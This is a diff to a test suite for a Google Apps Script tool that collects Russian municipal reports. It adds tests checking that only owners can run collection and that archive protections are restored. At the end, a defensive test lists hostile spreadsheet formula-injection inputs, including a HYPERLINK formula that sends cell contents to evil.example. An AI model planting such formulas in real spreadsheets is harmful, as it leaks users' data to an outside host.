@@ -264,6 +264,64 @@ describe('submission, «Сбор отчётов» and the archive that is never 
   });
 });
 
+describe('owner-only commands', () => {
+  /** Who may edit each protection of ours, and every cell value, to check that nothing was written. */
+  function state(world: World): unknown {
+    return {
+      sheets: world.spreadsheet.sheets.map((s) => [s.getName(), s.grid(), [...s.formats.entries()]]),
+      protections: world.protections.map((p) => [p.sheet.getName(), p.type, p.getDescription(), p.editorEmails(), p.canDomainEdit()]),
+    };
+  }
+
+  test('a municipal editor cannot run «Сбор отчётов» nor «Создать листы отчётов»: a Russian refusal, nothing written', () => {
+    const world = setUp();
+    createReports(envOf(world, '2025-02-10'));
+    const a = reportOf(world, MA);
+    world.as(A[0], () => submitReport(envOf(world, '2025-04-03'), a as unknown as GoogleAppsScript.Spreadsheet.Sheet));
+    const before = state(world);
+    for (const user of [A[0], B, STRANGER]) {
+      // Apps Script names the user, or does not (no e-mail scope): refused either way.
+      for (const told of [user, '']) {
+        const collected = world.as(user, () => collectReports({ ...envOf(world, '2025-04-04'), user: told }));
+        expect(collected.ok).toBe(false);
+        expect(collected.message).toMatch(/только владельцы региона.*Ничего не изменено/);
+        const created = world.as(user, () => createReports({ ...envOf(world, '2025-04-04'), user: told }));
+        expect(created.ok).toBe(false);
+        expect(created.message).toMatch(/только владельцы региона/);
+      }
+    }
+    expect(state(world)).toEqual(before);
+    expect(world.spreadsheet.getSheetByName(REPORT_SHEETS.archive({ year: 2025, q: 1 }))).toBeNull();
+    // The owners can, whether Apps Script names them or not.
+    expect(world.as(COORD, () => collectReports({ ...envOf(world, '2025-04-04'), user: '' })).ok).toBe(true);
+    const archive = world.spreadsheet.sheet(REPORT_SHEETS.archive({ year: 2025, q: 1 }));
+    expect(tryWrite(world, A[0], archive, 5, 2, 'подправлено')).toBe('refused');
+  });
+
+  test('every run re-applies the protection of what it wrote: a loosened archive is closed again', () => {
+    const world = setUp();
+    createReports(envOf(world, '2025-02-10'));
+    world.as(A[0], () => submitReport(envOf(world, '2025-04-03'), reportOf(world, MA) as unknown as GoogleAppsScript.Spreadsheet.Sheet));
+    collectReports(envOf(world, '2025-04-04'));
+    const archive = world.spreadsheet.sheet(REPORT_SHEETS.archive({ year: 2025, q: 1 }));
+    const [p] = ours(world, archive);
+    p.addEditors([B]);
+    p.setDomainEdit(true);
+    expect(tryWrite(world, B, archive, 40, 1, 'x')).toBe('ok');
+    world.as(OWNER, () => archive.getRange(40, 1).setValue(''));
+    world.as(B, () => submitReport(envOf(world, '2025-04-05'), reportOf(world, MB) as unknown as GoogleAppsScript.Spreadsheet.Sheet));
+    world.as(COORD, () => collectReports(envOf(world, '2025-04-05')));
+    expect(ours(world, archive)).toHaveLength(1);
+    expect(ours(world, archive)[0].editorEmails()).toEqual([COORD, OWNER].sort());
+    expect(tryWrite(world, B, archive, 5, 2, 'подправлено')).toBe('refused');
+    expect(tryWrite(world, A[0], archive, 5, 2, 'подправлено')).toBe('refused');
+    // The report sheets it moved on to the next quarter keep their protections too.
+    const a = reportOf(world, MA);
+    expect(tryWrite(world, A[0], a, rowOf(a, 'Отчётный квартал'), 2, 'I квартал 2025')).toBe('refused');
+    expect(tryWrite(world, B, a, statusCell(a).row, statusCell(a).col, 'выполнено')).toBe('refused');
+  });
+});
+
 describe('text a municipality typed stays text in the archive', () => {
   const HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Отчёт")', '+A1', '-HYPERLINK("http://evil.example")', '@SUM(A1:A9)',
